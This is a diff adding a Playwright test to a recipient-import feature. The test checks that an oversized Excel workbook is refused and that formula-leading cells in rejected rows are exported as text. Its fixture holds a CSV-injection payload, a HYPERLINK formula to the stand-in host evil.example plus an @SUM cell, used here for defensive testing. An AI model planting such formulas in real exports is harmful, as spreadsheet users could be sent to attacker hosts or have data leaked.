@@ -137,6 +137,29 @@ test('imports recipients from an Excel workbook, with the mapping remembered fro
   await shot(page, 'import-xlsx-again.png');
 });
 
+test('a workbook beyond the import\'s limits is refused before it is parsed, saying which; a left-out row that starts a formula is saved as text', async ({ page, server, request }) => {
+  await oneTimeCampaign(server, request, 'Careful people');
+  await openUiLink(page, server);
+  const campaigns = new CampaignsPageObject(page);
+  await campaigns.open();
+  const tooLong = await writeExcelFile(Array.from({ length: 200_002 }, (_, i) => [{ value: i === 0 ? 'First Name' : `Reader ${i}` }])).toBuffer();
+  await campaigns.chooseFile('everyone.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', tooLong);
+  await expect(campaigns.message).toContainText('everyone.xlsx could not be read: This workbook has more than 200,000 rows (counting empty rows up to the last one used), the most Inkpost reads from one workbook. Split it into smaller files, or save the sheet as CSV and import that.', { timeout: 15_000 }); // its 17 MB of XML measured in the worker
+  await shot(page, 'import-xlsx-refused.png', 'campaign-message');
+  await expectAccessible(page, test.info(), 'Import: a workbook refused');
+
+  const header = CSV.split('\n')[0]!;
+  await campaigns.chooseCsv('formulas.csv', [header, 'Dr,Ada,Lovelace,12 Byron Road,London,W1 2AB,GB,red', 'Mx,"=HYPERLINK(""http://evil.example/?"",""Click"")",Out,2 Road,York,YO1 1AA,GB,@SUM(1+1)'].join('\n'));
+  await campaigns.mappingOf('Nation').selectOption('field:country');
+  await campaigns.checkRows();
+  await campaigns.line(3).getByTestId('review-include').uncheck();
+  const download = page.waitForEvent('download');
+  await page.getByTestId('save-rejected').click();
+  const rejected = await readFile(await (await download).path(), 'utf8');
+  // Opened in a spreadsheet, the cells show as typed instead of running (OWASP CSV injection).
+  expect(rejected.split(/\r?\n/)[1]).toBe(`Mx,"'=HYPERLINK(""http://evil.example/?"",""Click"")",Out,2 Road,York,YO1 1AA,GB,"'@SUM(1+1)",3,Left out by you`);
+});
+
 test('the check grid is driven from the keyboard: arrows move between cells, a missing name is fixed with Enter, Escape drops an edit, Tab leaves the grid', async ({ page, server, request }) => {
   await oneTimeCampaign(server, request, 'Keyboard people');
   const lines = ['First Name,Last Name,Street,City,Postcode,Country'];
